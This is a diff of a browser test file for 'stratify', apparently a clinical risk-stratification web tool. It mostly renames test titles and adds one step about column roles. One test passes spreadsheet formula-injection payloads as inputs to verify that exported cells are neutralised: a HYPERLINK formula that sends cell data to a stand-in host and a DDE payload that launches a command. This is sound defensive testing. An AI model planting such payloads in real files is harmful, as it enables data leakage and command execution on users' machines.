@@ -31,7 +31,7 @@ describe('stratify', () => {
   const choose = (page, field, value) =>
     page.locator(`${id(`field-${field}`)} label:has(input[value="${value}"])`).click();
 
-  test('opens on the published vignette, says that it is one, and clears', async () => {
+  test('opens on the published vignette, marks it as one, and clears', async () => {
     const { page, close } = await open(chrome);
     await visit(page, site, 'stratify/');
     await shows(page.locator(id('banner')), /Example, not your patient\.[\s\S]*Blood 2019;133:205, patient 1/);
@@ -71,7 +71,7 @@ describe('stratify', () => {
     await close();
   });
 
-  test('units are switched and said back', async () => {
+  test('units are switched and shown', async () => {
     const { page, close } = await cleared();
     await page.fill('input[name="wbc"]', '300000');
     await page.click(`${id('field-wbc')} button:text("/µL")`);
@@ -120,7 +120,7 @@ describe('stratify', () => {
     await close();
   });
 
-  test('the unit switch answers too, and an edited example is asked about', async () => {
+  test('the unit switch answers too, and an edited example raises the question', async () => {
     const { page, close } = await open(chrome);
     await visit(page, site, 'stratify/');
     const readings = page.locator(id('readings-age_days'));
@@ -190,7 +190,7 @@ describe('stratify', () => {
     await close();
   });
 
-  test('what cannot be used is said beside its field and stays as typed', async () => {
+  test('an unusable text is reported beside its field and stays as typed', async () => {
     const { page, close } = await cleared();
     await page.fill('input[name="wbc"]', 'many');
     await shows(page.locator(id('field-wbc')), /Not used: /);
@@ -325,7 +325,7 @@ describe('stratify', () => {
     await close();
   });
 
-  test('no cell of the table of answers is run by a spreadsheet', async () => {
+  test('no cell of the table of answers is a formula for a spreadsheet', async () => {
     const { page, close } = await open(chrome);
     await visit(page, site, 'stratify/');
     const ids = ['=HYPERLINK("http://x/?"&B2,"open")', '=cmd|\' /C calc\'!A0', '@SUM(1+1)', '\t=1+1', 'a;=1+1', '-2+3', '-5', 'S1'];
@@ -341,7 +341,7 @@ describe('stratify', () => {
     await close();
   });
 
-  test('a dropped file is read; one that cannot be read says why', async () => {
+  test('a dropped file is read; an unreadable one gives the reason', async () => {
     const { page, close } = await open(chrome);
     await visit(page, site, 'stratify/');
     const drop = async text => {
@@ -357,6 +357,14 @@ describe('stratify', () => {
     await shows(page.locator('[data-part="problems"]'), /1 cell to check/);
     await drop('id,wbc\na,3000\nb,33900\n');
     await shows(page.locator(id('columns')), /wbc[\s\S]*33,?900/);
+    // The same columns as on Analyse: a role that is taken away changes the answers, and keeps the focus.
+    const list = await page.locator('[name="role:1"]').elementHandle();
+    await list.focus();
+    await list.selectOption('ignored');
+    await page.locator(id('no-findings')).waitFor();
+    assert.ok(await list.evaluate(list => list === document.activeElement && list.isConnected));
+    await list.selectOption('wbc');
+    await page.locator(id('csv-table')).waitFor();
     await drop('a,b\n1,2\n');
     await page.locator(id('no-findings')).waitFor();
     await drop('');
